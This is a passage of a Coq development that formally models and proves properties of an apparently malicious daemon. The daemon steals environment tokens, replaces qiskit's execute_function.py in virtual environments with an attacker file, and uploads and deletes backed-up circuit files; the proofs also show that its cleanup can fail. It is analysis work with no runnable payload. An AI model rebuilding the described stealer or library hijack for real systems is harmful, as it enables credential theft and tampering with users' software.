  ∃ j, a = ancestor j path ∧ exists_ (fs w) (join a "lib") = true.
Proof.
  revert path. induction fuel as [|fuel IH]; intros path; [done|].
  cbn. py_unfold.
  destruct (exists_ (fs w) (join path "lib")) eqn:Hlib; cbn.
  - intros [= <-]. by exists 0.
  - intros (j & -> & Hj)%IH. by exists (S j).
Qed.

(** No ancestor with a [lib] entry: the loop does not terminate. *)
Lemma site_package_hangs w path :
  (∀ j, exists_ (fs w) (join (ancestor j path) "lib") = false) →
  (∀ fuel, climb_to_lib fuel path w = (Hang, w)) ∧ _site_package path w = (Hang, w).
Proof.
  intros Hno.
  assert (∀ fuel, climb_to_lib fuel path w = (Hang, w)) as Hh.
  { intros fuel. destruct (climb_outcome w fuel path) as [(a & Ha & _) | Hh]; [|done].
    apply climb_ret_ancestor in Ha as (j & -> & Hj). by rewrite Hno in Hj. }
  split; [done|]. unfold _site_package. by rewrite (bind_hang _ _ _ _ (Hh _)).
Qed.

(** The nearest ancestor with a [lib] entry, that entry being a
    directory: the candidate locations are computed. *)
Lemma site_package_found w k path :
  (∀ j, j < k → exists_ (fs w) (join (ancestor j path) "lib") = false) →
  fs w !! join (ancestor k path) "lib" = Some Dir →
  ∃ entries,
    listdir (join (ancestor k path) "lib") (fs w) = (Ret entries, fs w) ∧
    _site_package path w =
      (Ret (join4 (ancestor k path) "lib" "site-packages" "qiskit" ::
            map (λ d, join4 (join (ancestor k path) "lib") d "site-packages" "qiskit") entries),
       w).
Proof.
  intros Hbelow Hdir.
  assert (exists_ (fs w) (join (ancestor k path) "lib") = true) as Hk.
  { unfold exists_. rewrite Hdir. by apply bool_decide_eq_true_2. }
  pose proof (climb_nearest w k path (S k) Hbelow Hk ltac:(lia)) as Hclimb.
  assert (climb_to_lib (S (String.length path)) path w = (Ret (ancestor k path), w)) as Hdef.
  { destruct (decide (S k ≤ S (String.length path))).
    - by apply (climb_mono _ (S k)).
    - rewrite <- Hclimb. symmetry. apply climb_fuel_enough. lia. }
  eexists. split.
  - unfold listdir. by rewrite Hdir.
  - unfold _site_package. rewrite (bind_ret _ _ _ _ _ Hdef).
    py_unfold. unfold listdir. rewrite Hdir. cbn. by rewrite set_fs_id.
Qed.

(** [lib] is there but is not a directory: [os.listdir] raises. *)
Lemma site_package_lib_is_file w k path c :
  (∀ j, j < k → exists_ (fs w) (join (ancestor j path) "lib") = false) →
  fs w !! join (ancestor k path) "lib" = Some (File c) →
  _site_package path w = (Raise NotADirectoryError, w).
Proof.
  intros Hbelow Hfile.
  assert (exists_ (fs w) (join (ancestor k path) "lib") = true) as Hk.
  { unfold exists_. rewrite Hfile. by apply bool_decide_eq_true_2. }
  pose proof (climb_nearest w k path (S k) Hbelow Hk ltac:(lia)) as Hclimb.
  assert (climb_to_lib (S (String.length path)) path w = (Ret (ancestor k path), w)) as Hdef.
  { destruct (decide (S k ≤ S (String.length path))).
    - by apply (climb_mono _ (S k)).
    - rewrite <- Hclimb. symmetry. apply climb_fuel_enough. lia. }
  unfold _site_package. rewrite (bind_ret _ _ _ _ _ Hdef).
  py_unfold. unfold listdir. rewrite Hfile. cbn. by rewrite set_fs_id.
Qed.

Lemma ancestor_empty j : ancestor j "" = "".
Proof. induction j; [done|]. cbn. apply IHj. Qed.

(** On a machine: the environment's [bin] directory as root, two
    candidate locations. *)
Lemma site_package_of_venv :
  _site_package "/venv/bin" unpatched_host =
    (Ret ["/venv/lib/site-packages/qiskit"; "/venv/lib/python3/site-packages/qiskit"],
     unpatched_host).
Proof. reflexivity. Qed.

(** C10, at the failing input: for the root ["python"] (the [argv[0]] of
    an interpreter started by its bare name) no ancestor has a [lib]
    entry, the loop reaches the fixed point [""] of [dirname] and no
    amount of fuel lets it return; the daemon, which meets this root in
    the first round of its loop, hangs there. *)
Theorem site_package_spins_on_bare_name (codec : Codec) :
  (∀ fuel, climb_to_lib fuel "python" host_bare_name = (Hang, host_bare_name)) ∧
  _site_package "python" host_bare_name = (Hang, host_bare_name) ∧
  (quantum_daemon.main "/atk/bk-circuits" host_bare_name).1 = Hang.
Proof.
  assert ((∀ fuel, climb_to_lib fuel "python" host_bare_name = (Hang, host_bare_name)) ∧
          _site_package "python" host_bare_name = (Hang, host_bare_name)) as [H1 H2].
  { apply site_package_hangs. intros [|j]; [done|].
    change (ancestor (S j) "python") with (ancestor j ""). by rewrite ancestor_empty. }
  split_and!; [done | done | reflexivity].
Qed.

(** ** State properties kept by a computation *)

Section preserves.
Context (P : world → Prop).

Lemma preserves_ret {A} (a : A) : preserves P (mret a).
Proof. by intros w. Qed.

Lemma preserves_raise {A} e : preserves P (@raise world A e).
Proof. by intros w. Qed.

Lemma preserves_hang {A} : preserves P (@hang world A).
Proof. by intros w. Qed.

Lemma preserves_gets {A} (f : world → A) : preserves P (gets f).
Proof. by intros w. Qed.

Lemma preserves_bind {A B} (m : M world A) (k : A → M world B) :
  preserves P m → (∀ a, preserves P (k a)) → preserves P (m ≫= k).
Proof.
  intros Hm Hk w Hw. specialize (Hm w Hw). unfold mbind, M_bind.
  destruct (m w) as [[a| |] w']; cbn in *; [by apply Hk | done..].
Qed.

Lemma preserves_try_except {A} (body : M world A) catches handler :
  preserves P body → (∀ e, preserves P (handler e)) →
  preserves P (try_except body catches handler).
Proof.
  intros Hb Hh w Hw. specialize (Hb w Hw). unfold try_except.
  destruct (body w) as [[a|e|] w']; cbn in *; [done| |done].
  destruct (catches e); [by apply Hh | done].
Qed.

Lemma preserves_try_finally {A} (body : M world A) cleanup :
  preserves P body → preserves P cleanup →
  preserves P (try_finally body cleanup).
Proof.
  intros Hb Hc w Hw. specialize (Hb w Hw). unfold try_finally.
  destruct (body w) as [[a|e|] w']; cbn in *; [| |done];
    specialize (Hc w' Hb); by destruct (cleanup w') as [[| |] w''].
Qed.

Lemma preserves_for_each {A} (xs : list A) body :
  (∀ x, preserves P (body x)) → preserves P (for_each xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; [apply preserves_ret|].
  cbn. apply preserves_bind; [apply Hb | by intros _].
Qed.

Lemma preserves_for_acc {A B} (xs : list A) (acc : B) body :
  (∀ x b, preserves P (body x b)) → preserves P (for_acc xs acc body).
Proof.
  intros Hb. revert acc. induction xs as [|x xs IH]; intros acc; [apply preserves_ret|].
  cbn. apply preserves_bind; [apply Hb | apply IH].
Qed.

Lemma preserves_repeat_n n body :
  preserves P body → preserves P (repeat_n n body).
Proof.
  intros Hb. induction n as [|n IH]; [apply preserves_ret|].
  cbn. apply preserves_bind; [done | by intros _].
Qed.
End preserves.

Section m_data_frame.
Context (Q : list string → Prop).

Lemma on_fs_m_data {A} (m : M (gmap string node) A) : preserves (on_m_data Q) (on_fs m).
Proof. intros w Hw. unfold on_fs. by destruct (m (fs w)). Qed.

Lemma send_m_data api data : preserves (on_m_data Q) (send api data).
Proof. by intros w. Qed.

Lemma sleep_m_data : preserves (on_m_data Q) sleep.
Proof. intros w Hw. unfold sleep. by destruct (sigint w) as [[|]|]. Qed.

Lemma process_iter_m_data : preserves (on_m_data Q) process_iter.
Proof. intros w Hw. unfold process_iter. by destruct (ps w). Qed.

Lemma read_text_m_data `{Codec} p : preserves (on_m_data Q) (read_text p).
Proof. intros w Hw. unfold read_text. by repeat case_match. Qed.

Lemma read_json_m_data `{Codec} p : preserves (on_m_data Q) (read_json p).
Proof. intros w Hw. unfold read_json. by repeat case_match. Qed.

Lemma climb_m_data fuel path : preserves (on_m_data Q) (climb_to_lib fuel path).
Proof.
  revert path. induction fuel as [|fuel IH]; intros path; [apply preserves_hang|].
  cbn. apply preserves_bind; [apply preserves_gets|].
  intros []; [apply preserves_ret | apply IH].
Qed.

Lemma site_package_m_data path : preserves (on_m_data Q) (_site_package path).
Proof.
  unfold _site_package. apply preserves_bind; [apply climb_m_data|]. intros a.
  apply preserves_bind; [apply on_fs_m_data|]. intros. apply preserves_ret.
Qed.

Lemma patch_qiskit_m_data loc restore : preserves (on_m_data Q) (_patch_qiskit loc restore).
Proof.
  unfold _patch_qiskit.
  apply preserves_bind; [apply preserves_gets|]. intros d.
  apply preserves_bind; [apply preserves_gets|]. intros [|]; cbn; [|apply preserves_ret].
  apply preserves_bind; [apply preserves_gets|]. intros [|].
  - destruct restore; [|apply preserves_ret].
    apply preserves_bind; [apply on_fs_m_data|]. intros. apply on_fs_m_data.
  - apply preserves_try_except; [|intros; apply preserves_ret].
    apply preserves_bind; [apply on_fs_m_data|]. intros. apply on_fs_m_data.
Qed.

Lemma report_circuits_m_data `{Codec} dir : preserves (on_m_data Q) (_report_circuits dir).
Proof.
  unfold _report_circuits.
  apply preserves_bind; [apply preserves_gets|]. intros [|]; cbn; [|apply preserves_ret].
  apply preserves_bind; [apply on_fs_m_data|]. intros names.
  apply preserves_bind.
  - apply preserves_for_acc. intros x b.
    apply preserves_bind; [apply read_text_m_data|]. intros.
    apply preserves_bind; [apply send_m_data|]. intros. apply preserves_ret.
  - intros. apply preserves_for_each. intros. apply on_fs_m_data.
Qed.
End m_data_frame.

(** ** The record of patched roots *)

Lemma list_remove_subseteq x l : list_remove x l ⊆ l.
Proof.
  induction l as [|y l IH]; [done|]. cbn. case_bool_decide.
  - intros z Hz. by apply list_elem_of_further.
  - intros z [->|Hz]%elem_of_cons; [apply list_elem_of_here|].
    apply list_elem_of_further. by apply IH.
Qed.

Lemma list_remove_NoDup x l : NoDup l → NoDup (list_remove x l).
Proof.
  induction 1 as [|y l Hy Hl IH]; [constructor|]. cbn.
  case_bool_decide; [done|]. constructor; [|done].
  intros Hin. apply Hy. by apply (list_remove_subseteq x).
Qed.

Lemma list_remove_NoDup_notin x l : NoDup l → x ∉ list_remove x l.
Proof.
  induction 1 as [|y l Hy Hl IH]; cbn; [apply not_elem_of_nil|].
  case_bool_decide; [by subst|].
  intros [->|Hin]%elem_of_cons; done.
Qed.

Lemma add_patch_NoDup path : preserves (on_m_data NoDup) (_add_patch path).
Proof.
  intros w Hw. unfold _add_patch, gets, modify, mbind at 1 2, M_bind. cbn.
  case_bool_decide as Hin; [done|].
  set (w1 := set_m_data (_m_data w ++ [path]) w).
  assert (on_m_data NoDup w1) as Hw1.
  { unfold on_m_data, w1. cbn. apply NoDup_app. split_and!; [done| |apply NoDup_singleton].
    intros x Hx ->%list_elem_of_singleton. done. }
  revert Hw1. generalize w1. change (preserves (on_m_data NoDup)
    (_site_package path ≫= λ paths, for_each paths (λ p, _patch_qiskit p false))).
  apply preserves_bind; [apply site_package_m_data|].
  intros paths. apply preserves_for_each. intros p. apply patch_qiskit_m_data.
Qed.

Lemma remove_patch_NoDup path : preserves (on_m_data NoDup) (_remove_patch path).
Proof.
  intros w Hw. unfold _remove_patch, gets, modify, mbind at 1 2, M_bind. cbn.
  case_bool_decide as Hin; cbn; [|done].
  set (w1 := set_m_data (list_remove path (_m_data w)) w).
  assert (on_m_data NoDup w1) as Hw1 by (by apply list_remove_NoDup).
  revert Hw1. generalize w1. change (preserves (on_m_data NoDup)
    (_site_package path ≫= λ paths, for_each paths (λ p, _patch_qiskit p true))).
  apply preserves_bind; [apply site_package_m_data|].
  intros paths. apply preserves_for_each. intros p. apply patch_qiskit_m_data.
Qed.

(** C8: starting from a record without duplicates (the constructor's
    empty list is one), after any sequence of [_add_patch] and
    [_remove_patch] calls every root occurs at most once in [_m_data]. *)
Theorem patched_roots_no_duplicates (calls : list call) (w : world) (R : string) :
  NoDup (_m_data w) →
  count_occ String.eq_dec (_m_data (after calls w)) R ≤ 1.
Proof.
  intros Hw.
  assert (NoDup (_m_data (after calls w))) as Hnd.
  { unfold after. revert w Hw. induction calls as [|c calls IH]; intros w Hw; [done|].
    cbn. apply IH. destruct c; [by apply add_patch_NoDup | by apply remove_patch_NoDup]. }
  apply NoDup_ListNoDup in Hnd.
  apply (proj1 (NoDup_count_occ String.eq_dec _) Hnd).
Qed.

Lemma patched_roots_no_duplicates_witness :
  count_occ String.eq_dec
    (_m_data (after [add_patch "/venv"; add_patch "/venv"; remove_patch "/venv";
                     add_patch "/venv"; add_patch "/venv"] unpatched_host))
    "/venv" ≤ 1.
Proof.
  apply (patched_roots_no_duplicates _ unpatched_host "/venv").
  simpl. constructor.
Defined.

(** Discovery keeps the record free of duplicates: the patch loop and
    the cleanup are sequences of calls of the two methods. *)
Lemma scan_environ_NoDup entries :
  preserves (on_m_data NoDup) (LinuxPatcher.scan_environ entries).
Proof.
  induction entries as [|e rest IH]; cbn; [apply preserves_ret|].
  destruct (str.startswith e "VIRTUAL_ENV"); [apply add_patch_NoDup|].
  destruct (str.startswith e "PATH="); [|done].
  apply preserves_bind; [apply add_patch_NoDup | by intros _].
Qed.

Lemma processes_data_NoDup self running_processes :
  preserves (on_m_data NoDup) (_processes_data self running_processes).
Proof.
  destruct self; cbn; apply preserves_for_each; intros p.
  - apply preserves_try_except; [|intros; apply preserves_ret].
    destruct (proc_environ p); [apply preserves_raise.. | apply scan_environ_NoDup].
  - destruct (cmdline p) as [[|python_path ?]|];
      [apply preserves_raise | apply add_patch_NoDup | apply preserves_raise].
Qed.

Lemma run_NoDup `{Codec} self dir : preserves (on_m_data NoDup) (patcher.run self dir).
Proof.
  apply preserves_repeat_n.
  apply preserves_bind.
  { apply preserves_bind; [apply process_iter_m_data | intros; apply preserves_ret]. }
  intros running. apply preserves_bind; [apply processes_data_NoDup|].
  intros _. apply preserves_bind; [apply report_circuits_m_data|].
  intros _. apply sleep_m_data.
Qed.

Lemma restore_state_NoDup : preserves (on_m_data NoDup) restore_state.
Proof.
  apply preserves_bind; [apply preserves_gets|].
  intros data. apply preserves_for_each. intros d. apply remove_patch_NoDup.
Qed.

(** ** The daemon's [try] / [finally] *)

Import quantum_daemon.

(** However the body comes back, by return, by [KeyboardInterrupt] or by
    any other exception, [restore_state] is run next, on the state the
    body left. *)
Lemma guarded_runs_restore_state (body : M world ()) w r w1 :
  body w = (r, w1) → r ≠ Hang →
  guarded body w = after_cleanup r (restore_state w1).
Proof.
  intros Hb Hr. unfold guarded, try_finally, try_except. rewrite Hb.
  destruct r as [[]|e|]; [| |done]; cbn.
  - by destruct (restore_state w1) as [[[]| |] w2].
  - destruct e; cbn; by destruct (restore_state w1) as [[[]| |] w2].
Qed.

(** [_remove_patch] of the first recorded root takes it off the record
    before anything can fail. *)
Lemma remove_patch_head d rest w :
  _m_data w = d :: rest → _m_data (_remove_patch d w).2 = rest.
Proof.
  intros Hw. unfold _remove_patch, gets, modify, mbind at 1 2, M_bind. cbn.
  rewrite bool_decide_true by (rewrite Hw; apply list_elem_of_here). cbn.
  set (w1 := set_m_data _ w).
  assert (on_m_data (λ l, l = rest) w1) as Hw1.
  { unfold on_m_data, w1. cbn. rewrite Hw. cbn. by rewrite bool_decide_true. }
  revert Hw1. generalize w1. change (preserves (on_m_data (λ l, l = rest))
    (_site_package d ≫= λ paths, for_each paths (λ p, _patch_qiskit p true))).
  apply preserves_bind; [apply site_package_m_data|].
  intros paths. apply preserves_for_each. intros p. apply patch_qiskit_m_data.
Qed.

Lemma restore_loop_outcome l w :
  _m_data w = l →
  let '(r, w') := for_each l _remove_patch w in
  (r = Ret () ∧ _m_data w' = []) ∨
  (r ≠ Ret () ∧ ∃ visited d rest,
      l = visited ++ d :: rest ∧ _m_data w' = rest ∧
      ∃ w0, _m_data w0 = d :: rest ∧ _remove_patch d w0 = (r, w')).
Proof.
  revert w. induction l as [|d rest IH]; intros w Hw; cbn; [by left|].
  unfold mbind, M_bind.
  pose proof (remove_patch_head d rest w Hw) as Hhead.
  destruct (_remove_patch d w) as [[[]|e|] w1] eqn:Hd; cbn in Hhead.
  - specialize (IH w1 Hhead).
    destruct (for_each rest _remove_patch w1) as [r w'].
    destruct IH as [? | (Hr & visited & d' & rest' & -> & ? & ?)]; [by left|].
    right. split; [done|]. by exists (d :: visited), d', rest'.
  - right. split; [done|]. exists [], d, rest. eauto.
  - right. split; [done|]. exists [], d, rest. eauto.
Qed.

(** [restore_state] takes the recorded roots in order.  Either every
    [_remove_patch] returns and the record ends empty, or the loop ends
    at the first root [d] whose [_remove_patch] does not return, and the
    roots after [d] stay on the record, never visited. *)
Lemma restore_state_outcome w :
  let '(r, w') := restore_state w in
  (r = Ret () ∧ _m_data w' = []) ∨
  (r ≠ Ret () ∧ ∃ visited d rest,
      _m_data w = visited ++ d :: rest ∧ _m_data w' = rest ∧
      ∃ w0, _m_data w0 = d :: rest ∧ _remove_patch d w0 = (r, w')).
Proof. apply (restore_loop_outcome (_m_data w) w eq_refl). Qed.

(** The cleanup at work: Ctrl-C arrives in the third second, the library
    is patched at that moment, and the daemon ends with the file system
    as it found it and an empty record. *)
Lemma interrupt_is_followed_by_restore (codec : Codec) :
  let body := (token_stealer.run ;; patcher.run Linux "/atk/bk-circuits") host_interrupted in
  let final := quantum_daemon.main "/atk/bk-circuits" host_interrupted in
  (body.1 = Raise KeyboardInterrupt ∧ _m_data body.2 = ["/venv"] ∧
   fs body.2 !! join demo_location "execute_function.py" = Some (File "attacker")) ∧
  (final.1 = Ret (Some ()) ∧ _m_data final.2 = [] ∧ fs final.2 = fs host_interrupted).
Proof.
  split_and!; [vm_compute; reflexivity..|].
  apply (bool_decide_unpack _). vm_compute. exact I.
Qed.

(** C7, at the failing input: a Linux machine with two interpreters.  The
    first runs in an environment whose [lib] is a regular file: its root
    is recorded, [os.listdir] raises, and [LinuxPatcher] swallows the
    [OSError].  The second root is patched.  The patch loop completes its
    180 rounds and returns; [restore_state] runs, raises on the first
    root, and the second root is never restored. *)
Theorem restore_state_stops_at_first_failure (codec : Codec) :
  let body := (token_stealer.run ;; patcher.run Linux "/atk/bk-circuits") host_two_roots in
  let final := main "/atk/bk-circuits" host_two_roots in
  let qiskit := "/venv/lib/python3/site-packages/qiskit" in
  (body.1 = Ret () ∧ _m_data body.2 = ["/bad"; "/venv"]) ∧
  (final.1 = Raise NotADirectoryError ∧ _m_data final.2 = ["/venv"] ∧
   fs final.2 !! join qiskit "execute_function.py" = Some (File "attacker") ∧
   fs final.2 !! join qiskit "execute_function.py.org" = Some (File "original")).
Proof. vm_compute. done. Qed.

(** The slip of [_patch_qiskit] seen from outside: two interpreters of
    one installation give two roots with the same candidate locations.
    On exit the first root's restore brings the original back, the
    second root's restore patches the library again, and the daemon
    returns with the replacement still installed. *)
Lemma daemon_exit_leaves_library_patched (codec : Codec) :
  let final := main "/atk/bk-circuits" host_shared_installation in
  let qiskit := "/py/lib/site-packages/qiskit" in
  final.1 = Ret (Some ()) ∧ _m_data final.2 = [] ∧
  fs final.2 !! join qiskit "execute_function.py" = Some (File "attacker") ∧
  fs final.2 !! join qiskit "execute_function.py.org" = Some (File "original").
Proof. vm_compute. done. Qed.

(** ** [os.listdir] *)

Lemma app_assoc_string (a b c : string) : (a +:+ b) +:+ c = a +:+ (b +:+ c).
Proof. induction a as [|x a IH]; [done|]. by rewrite !app_cons, IH. Qed.

Lemma strip_prefix_Some pre s d : strip_prefix pre s = Some d → s = pre +:+ d.
Proof.
  revert s. induction pre as [|a pre IH]; intros s; cbn.
  - by intros [= ->].
  - destruct s as [|b s]; [done|]. case_bool_decide; [|done].
    intros ->%IH. by subst.
Qed.

Lemma contains_sep_start d : contains_sep d = false → startswith_sep d = false.
Proof. destruct d as [|c d]; [done|]. cbn. by intros [? _]%orb_false_elim. Qed.

(** Below a directory, a separator-free name is appended to the
    directory's prefix. *)
Lemma join_child p d : startswith_sep d = false → join p d = join p "" +:+ d.
Proof.
  unfold join. intros ->. cbn.
  destruct (bool_decide (p = "") || endswith_sep p).
  - by rewrite app_empty_r.
  - by rewrite !app_assoc_string.
Qed.

Lemma child_name_Some p k d :
  child_name p k = Some d → k = join p d ∧ contains_sep d = false.
Proof.
  unfold child_name. destruct (strip_prefix (join p "") k) as [d'|] eqn:E; [|done].
  destruct (bool_decide (d' = "") || contains_sep d') eqn:Hd; [done|].
  intros [= <-]. apply orb_false_elim in Hd as [_ Hsep]. split; [|done].
  apply strip_prefix_Some in E. rewrite E.
  symmetry. by apply join_child, contains_sep_start.
Qed.

Lemma NoDup_omap_inj {A B} (f : A → option B) (l : list A) :
  (∀ x y b, f x = Some b → f y = Some b → x = y) → NoDup l → NoDup (omap f l).
Proof.
  intros Hinj. induction 1 as [|x l Hx Hl IH]; cbn; [constructor|].
  destruct (f x) as [b|] eqn:Hb; [|done].
  constructor; [|done].
  intros (y & Hy & Hfy)%list_elem_of_omap.
  by rewrite (Hinj x y b Hb Hfy) in Hx.
Qed.

(** What [os.listdir] returns: distinct names, each the last component
    of an existing path directly below the directory. *)
Lemma listdir_Ret p f names f' :
  listdir p f = (Ret names, f') →
  f' = f ∧ f !! p = Some Dir ∧ NoDup names ∧
  ∀ d, d ∈ names → is_Some (f !! join p d) ∧ contains_sep d = false.
Proof.
  unfold listdir. destruct (f !! p) as [[c|]|] eqn:Hp; [done| |done].
  intros [= <- <-]. split_and!; [done..| |].
  - apply NoDup_omap_inj; [|apply NoDup_fst_map_to_list].
    intros x y b [-> _]%child_name_Some [-> _]%child_name_Some. done.
  - intros d (k & Hk & [-> Hsep]%child_name_Some)%list_elem_of_omap.
    split; [|done].
    apply list_elem_of_fmap in Hk as ([k' v] & -> & Hkv). cbn.
    apply elem_of_map_to_list in Hkv. by rewrite Hkv.
Qed.

Lemma join_child_inj p d1 d2 :
  contains_sep d1 = false → contains_sep d2 = false →
  join p d1 = join p d2 → d1 = d2.
Proof.
  intros H1%contains_sep_start H2%contains_sep_start. by apply join_plain_inj.
Qed.

(** ** [_report_circuits] *)

Section report_circuits.
Context `{codec : Codec}.

Lemma read_text_readable w dir name text :
  readable (fs w) dir name text → read_text (join dir name) w = (Ret text, w).
Proof. intros (bytes & Hf & Hd). unfold read_text. by rewrite Hf, Hd. Qed.

Lemma set_sent_id w : set_sent (sent w) w = w.
Proof. by destruct w. Qed.

Lemma read_and_send_readable w dir name text acc :
  readable (fs w) dir name text →
  read_and_send dir name acc w =
    (Ret (acc ++ [join dir name]), set_sent (sent w ++ [circuit_message text]) w).
Proof.
  intros Hr. unfold read_and_send.
  by rewrite (bind_ret _ _ _ _ _ (read_text_readable _ _ _ _ Hr)).
Qed.

Lemma read_and_send_fails w dir name e acc :
  read_text (join dir name) w = (Raise e, w) →
  read_and_send dir name acc w = (Raise e, w).
Proof. intros Hr. unfold read_and_send. by rewrite (bind_raise _ _ _ _ _ Hr). Qed.

Lemma read_phase f dir names texts :
  Forall2 (readable f dir) names texts →
  ∀ acc w, fs w = f →
  for_acc names acc (read_and_send dir) w =
    (Ret (acc ++ map (join dir) names),
     set_sent (sent w ++ map circuit_message texts) w).
Proof.
  induction 1 as [|name text names texts Hr _ IH]; intros acc w Hw.
  - cbn. by rewrite !app_nil_r, set_sent_id.
  - subst f. cbn [for_acc].
    rewrite (bind_ret _ _ _ _ _ (read_and_send_readable _ _ _ _ acc Hr)).
    rewrite IH by done. cbn. by rewrite <- !app_assoc.
Qed.

(** The first unreadable entry ends the first loop: what was read before
    it has been sent, nothing has been deleted. *)
Lemma read_phase_fails f dir pre bad post texts e :
  Forall2 (readable f dir) pre texts →
  ∀ acc w, fs w = f →
  read_text (join dir bad) w = (Raise e, w) →
  for_acc (pre ++ bad :: post) acc (read_and_send dir) w =
    (Raise e, set_sent (sent w ++ map circuit_message texts) w).
Proof.
  induction 1 as [|name text names texts Hr _ IH]; intros acc w Hw Hbad.
  - cbn [app for_acc].
    rewrite (bind_raise _ _ _ _ _ (read_and_send_fails _ _ _ _ acc Hbad)).
    by rewrite app_nil_r, set_sent_id.
  - subst f. cbn [app for_acc].
    rewrite (bind_ret _ _ _ _ _ (read_and_send_readable _ _ _ _ acc Hr)).
    rewrite IH; [|done|].
    + cbn. by rewrite <- !app_assoc.
    + revert Hbad. unfold read_text. cbn. repeat case_match; naive_solver.
Qed.

(** The second loop removes distinct regular files one after the other. *)
Lemma delete_phase paths : ∀ w,
  NoDup paths → (∀ p, p ∈ paths → isfile (fs w) p = true) →
  for_each paths (λ f_path, on_fs (unlink f_path)) w =
    (Ret (), set_fs (foldl (λ f p, delete p f) (fs w) paths) w).
Proof.
  induction paths as [|p paths IH]; intros w Hnd Hfiles.
  - cbn. by rewrite set_fs_id.
  - apply NoDup_cons in Hnd as [Hp Hnd]. cbn.
    destruct (proj1 (isfile_true _ _) (Hfiles p (list_elem_of_here _ _))) as [c Hc].
    assert (on_fs (unlink p) w = (Ret (), set_fs (delete p (fs w)) w)) as Hu.
    { unfold on_fs. by rewrite (unlink_File _ _ c). }
    rewrite (bind_ret _ _ _ _ _ Hu). rewrite IH; [done|done|].
    intros q Hq. cbn.
    destruct (proj1 (isfile_true _ _) (Hfiles q (list_elem_of_further _ _ _ Hq))) as [c' Hc'].
    apply (isfile_File _ _ c'). rewrite lookup_delete_ne; [done|].
    intros ->. done.
Qed.

Lemma lookup_foldl_delete (paths : list string) : ∀ (f : gmap string node) p,
  foldl (λ f p, delete p f) f paths !! p = if decide (p ∈ paths) then None else f !! p.
Proof.
  induction paths as [|q paths IH]; intros f p; cbn.
  - rewrite decide_False; [done | apply not_elem_of_nil].
  - rewrite IH. destruct (decide (p ∈ paths)) as [Hin|Hnin].
    + rewrite decide_True; [done | by apply list_elem_of_further].
    + destruct (decide (p = q)) as [->|Hne].
      * rewrite decide_True by apply list_elem_of_here. apply lookup_delete_eq.
      * rewrite decide_False by (by intros [?|?]%elem_of_cons).
        by apply lookup_delete_ne.
Qed.

Lemma report_circuits_unfold dir w names :
  listdir dir (fs w) = (Ret names, fs w) →
  _report_circuits dir w =
    (to_remove ← for_acc names [] (read_and_send dir);
     for_each to_remove (λ f_path, on_fs (unlink f_path))) w.
Proof.
  intros Hl. pose proof (listdir_Ret _ _ _ _ Hl) as (_ & Hdir & _).
  unfold _report_circuits. py_unfold. unfold isdir. rewrite Hdir. cbn.
  rewrite Hl. cbn. by rewrite set_fs_id.
Qed.

(** C5: one pass of the circuit watcher.
    - The backup directory is absent: the pass returns and changes
      nothing.
    - The directory is listed and every entry is a readable file: the
      pass returns, each content has been posted to [/circuit] as
      [{"circuit": content}] in listing order, every listed file is gone
      and no other path has changed.
    - The entry [bad] cannot be read: the pass raises, the contents of
      the entries before [bad] have been posted, those of [bad] and of
      the entries after it have not, and the file system is untouched:
      no file of the pass has been deleted. *)
Theorem report_circuits_contract dir w :
  (isdir (fs w) dir = false → _report_circuits dir w = (Ret (), w)) ∧
  (∀ names, listdir dir (fs w) = (Ret names, fs w) →
    (∀ texts, Forall2 (readable (fs w) dir) names texts →
      ∃ w', _report_circuits dir w = (Ret (), w') ∧
            sent w' = sent w ++ map circuit_message texts ∧
            (∀ n, n ∈ names → fs w' !! join dir n = None) ∧
            (∀ p, p ∉ map (join dir) names → fs w' !! p = fs w !! p)) ∧
    (∀ pre bad post texts e,
      names = pre ++ bad :: post →
      Forall2 (readable (fs w) dir) pre texts →
      read_text (join dir bad) w = (Raise e, w) →
      ∃ w', _report_circuits dir w = (Raise e, w') ∧
            sent w' = sent w ++ map circuit_message texts ∧
            fs w' = fs w)).
Proof.
  split; [|intros names Hl; split].
  - intros Hd. unfold _report_circuits. py_unfold. by rewrite Hd.
  - intros texts Hread.
    pose proof (listdir_Ret _ _ _ _ Hl) as (_ & _ & Hnd & Hnames).
    rewrite (report_circuits_unfold _ _ _ Hl).
    rewrite (bind_ret _ _ _ _ _ (read_phase _ _ _ _ Hread [] w eq_refl)).
    rewrite delete_phase; cbn.
    + eexists. split; [done|]. cbn. split; [done|]. split.
      * intros n Hn. rewrite lookup_foldl_delete, decide_True; [done|].
        by apply list_elem_of_fmap_2.
      * intros p Hp. by rewrite lookup_foldl_delete, decide_False.
    + apply NoDup_fmap_2_strong; [|done].
      intros x y Hx Hy. apply join_child_inj; by apply Hnames.
    + intros p (n & -> & Hn)%list_elem_of_fmap.
      apply list_elem_of_lookup in Hn as [i Hi].
      destruct (Forall2_lookup_l _ _ _ _ _ Hread Hi) as (t & _ & bytes & Hb & _).
      by apply (isfile_File _ _ bytes).
  - intros pre bad post texts e -> Hread Hbad.
    rewrite (report_circuits_unfold _ _ _ Hl).
    rewrite (bind_raise _ _ _ _ _ (read_phase_fails _ _ _ _ _ _ _ Hread [] w eq_refl Hbad)).
    eexists. split; [done|]. done.
Qed.
End report_circuits.

Lemma report_circuits_contract_witness :
  ∃ w', @_report_circuits ascii_codec "/atk/bk-circuits" host_two_circuits = (Ret (), w') ∧
        sent w' = sent host_two_circuits ++
                  map circuit_message ["x q[0];"; "h q[0]; cx q[0],q[1];"] ∧
        (∀ n, n ∈ ["flip.qasm"; "bell.qasm"] → fs w' !! join "/atk/bk-circuits" n = None) ∧
        (∀ p, p ∉ map (join "/atk/bk-circuits") ["flip.qasm"; "bell.qasm"] →
              fs w' !! p = fs host_two_circuits !! p).
Proof.
  apply (proj2 (@report_circuits_contract ascii_codec "/atk/bk-circuits" host_two_circuits)
           ["flip.qasm"; "bell.qasm"]).
  - reflexivity.
  - repeat constructor; eexists; split; reflexivity.
Defined.

(** ** [TokenStealer.run] *)

Import token_stealer.

Lemma for_each_app {St A} (xs ys : list A) (body : A → M St ()) s :
  for_each (xs ++ ys) body s = (for_each xs body ;; for_each ys body) s.
Proof.
  revert s. induction xs as [|x xs IH]; intros s; cbn.
  - done.
  - unfold mbind, M_bind in *. destruct (body x s) as [[[]|e|] s']; [|done..].
    apply IH.
Qed.

(** *** The environment phase *)

Lemma set_variables_cons env v vars :
  set_variables env (v :: vars) = set_variables env [v] ++ set_variables env vars.
Proof.
  unfold set_variables. cbn.
  destruct (env !! v) as [t|]; [|done]. by case_bool_decide.
Qed.

Lemma scan_variable_sends key v w :
  scan_variable key v w =
    (Ret (), set_sent (sent w ++ map (λ t, token_message key (JStr t))
                                     (set_variables (environ w) [v])) w).
Proof.
